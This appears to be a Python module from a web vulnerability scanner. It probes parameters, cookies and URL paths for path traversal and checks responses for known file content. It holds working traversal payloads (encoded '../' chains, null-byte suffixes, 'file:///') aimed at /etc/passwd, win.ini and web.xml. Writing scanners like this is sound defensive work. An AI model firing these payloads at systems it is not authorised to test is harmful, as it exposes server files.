"""`input.path-traversal`: does a parameter, or an address, open a file outside of its directory (CWE-22)?

The files asked for are the same on every system, readable by all and hold no secret; what is kept of one is the line
that tells which it is. A file that does not exist, asked for in the same way, must not look like it.
"""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from typing import Final
from urllib.parse import urlsplit

from pydantic import JsonValue

from pgssi_checks.input.asking import Asker, Lost, concluded, go_round, told
from pgssi_checks.input.carried import cookies_of
from pgssi_checks.input.points import MAX_BODY, PLAIN, Point, curl
from pgssi_probe.check import CheckContext, Exchange, Observation, Request, Subject
from pgssi_probe.discovery.collect import SITE
from pgssi_probe.discovery.site import Site

NAMES: Final = re.compile(
    r"(?:^|[_.-])(?:file|files|filename|fichier|fichiers|nom_?fichier|path|filepath|chemin|dir|directory|folder|dossier|"
    r"repertoire|doc|document|attachment|piece|download|telecharger|template|tpl|gabarit|include|inc|load|read|page|view|"
    r"lang|langue|locale|theme|skin|style|layout|module|img|image|photo|media|src|source|log|conf|config|livret|pdf|"
    r"report|rapport|content|contenu)$",
    re.IGNORECASE,
)
FILE_LIKE: Final = re.compile(r"[\w.~/\\ -]*\.[A-Za-z][A-Za-z0-9]{0,4}$|[\w.~-]+[/\\][\w.~/\\-]+$")
UP: Final = 8
MAX_SIGN: Final = 100


@dataclass(frozen=True, slots=True)
class Known:
    """A file that is recognised by its content. `ways` are how it is asked for: `%` is its path without a root."""

    path: str
    sign: re.Pattern[str]
    ways: tuple[str, ...]


_UP, _DOUBLED, _BACK = "../" * UP, "....//" * UP, "..\\" * UP
_CODED = "..%2f" * UP
FILES: Final = (
    Known(
        "etc/os-release",
        re.compile(r'^(?:PRETTY_NAME|NAME|ID|VERSION_ID)=(?:"[^"\n]{1,80}"|[\w.-]{1,40})$', re.MULTILINE),
        (_UP + "%", "/%", _DOUBLED + "%", _CODED + "%", "file:///%", _UP + "%\0"),
    ),
    Known("etc/passwd", re.compile(r"^root:[^:\n]{0,120}:0:0:", re.MULTILINE), (_UP + "%", "/%", _CODED + "%")),
    Known(
        "windows/win.ini",
        re.compile(r"^; for 16-bit app support|^\[(?:fonts|extensions|mci extensions)\]\s*$", re.MULTILINE),
        (_BACK + "%", _UP + "%", "c:/%"),
    ),
    Known("WEB-INF/web.xml", re.compile(r"<web-app[\s>]"), ("../" * 2 + "%", "/%")),
)
RAW_WAYS: Final = ("../" * UP, ".%2e/" * UP, "..%2f" * UP, "%2e%2e%5c" * UP)
"""Ways up within an address, sent as they are: for servers that decode after they checked."""


def is_candidate(point: Point) -> bool:
    return bool(NAMES.search(point.name) or FILE_LIKE.match(point.value))


def values(point: Point) -> Iterator[tuple[Known, str]]:
    """What to put, and what it would open; where the value has a directory, from there too."""
    within = re.match(r"(?:[\w.~-]+[/\\])+", point.value)
    ending = re.search(r"\.\w{1,5}$", point.value)
    for known in FILES:
        for way in known.ways:
            if "\0" in way and ending is None:
                continue
            yield known, way.replace("\0", f"\0{ending[0]}" if ending else "")
            if within is not None and way.startswith("../"):
                yield known, within[0] + way


def shows(exchange: Exchange, known: Known) -> str | None:
    """The line by which a file is recognised in an answer."""
    if exchange.response is None or exchange.response.status >= 400:
        return None
    text = exchange.response.text[:MAX_BODY].replace("\r\n", "\n")
    text = unescape(re.sub(r"<(?:br|pre|p|code|div|td)\b[^<>]*>|</(?:pre|p|code|div|td)>", "\n", text))
    found = [match[0] for match in known.sign.finditer(text)]
    few = 2 if known.path == "etc/os-release" else 1  # one such line may be anything
    return found[0][:MAX_SIGN] if len(found) >= few else None


async def _one(asker: Asker, point: Point) -> list[Observation]:
    before: Exchange | None = None
    for known, way in values(point):
        value = way.replace("%", known.path, 1) if "%2f" not in way else way.removesuffix("%") + known.path
        got = await asker.shown(point, value)
        sign = shows(got, known)
        if sign is None:
            continue
        before = before or await asker.untouched(point)
        other = await asker.shown(point, value.replace(known.path, f"{secrets.token_hex(6)}/{secrets.token_hex(6)}"))
        again = await asker.shown(point, value)
        if shows(before, known) or shows(other, known) or shows(again, known) is None:
            continue
        kept = (asker.ctx.keep(again, excerpt=sign, title="file"),)
        return [told(asker.ctx, "read", point, kept, point.request(value), file=known.path)]
    return []


def directories(site: Site, origin: str) -> list[str]:
    """The root and the first directories that files of the site are in."""
    paths = [urlsplit(one.url).path for one in site.resources if one.url.startswith(origin)]
    firsts = [f"/{path.split('/')[1]}/" for path in paths if path.count("/") > 1]
    return list(dict.fromkeys([*firsts, "/"]))[:3]


async def _addresses(asker: Asker, site: Site) -> list[Observation]:
    """The same through the address itself."""
    ctx, known = asker.ctx, FILES[1]
    for directory in directories(site, ctx.target.origin):
        for way in RAW_WAYS:
            made = _raw(ctx, directory + way + known.path)
            got = await asker.ask(made)
            if shows(got, known) is None:
                continue
            other = await asker.ask(_raw(ctx, directory + way + secrets.token_hex(6)))
            again = await asker.ask(made)
            sign = shows(again, known)
            if sign is None or shows(other, known):
                continue
            facts: dict[str, JsonValue] = {"request": f"GET {directory}", "parameter": directory, "file": known.path}
            kept = ctx.keep(again, excerpt=sign, title="file")
            line = ctx.keep_facts("again", {"curl": curl(made), **facts})
            subject = Subject(kind="url", name=ctx.target.origin + directory)
            return [Observation(slug="read", subject=subject, facts=facts, evidence=(kept, line))]
    return []


def _raw(ctx: CheckContext, form: str) -> Request:
    return Request("GET", ctx.target.origin + "/", max_body=MAX_BODY, origin_form=form, provokes_errors=True)


async def observe(ctx: CheckContext) -> list[Observation]:
    asker = await Asker.of(ctx)
    site = await ctx.collect(SITE)
    chosen = [point for point in (*asker.points(PLAIN), *cookies_of(asker)) if is_candidate(point)]
    chosen.sort(key=lambda point: not (NAMES.search(point.name) and FILE_LIKE.match(point.value)))
    done = await go_round(asker, chosen, _one, most=ctx.setting("points_max"))
    if done.reason is None:
        try:
            done.found += await _addresses(asker, site)
        except Lost as lost:
            done.reason = lost.reason
        done.tried += 1
        done.known += 1
    return concluded(ctx, asker, done, "confined")
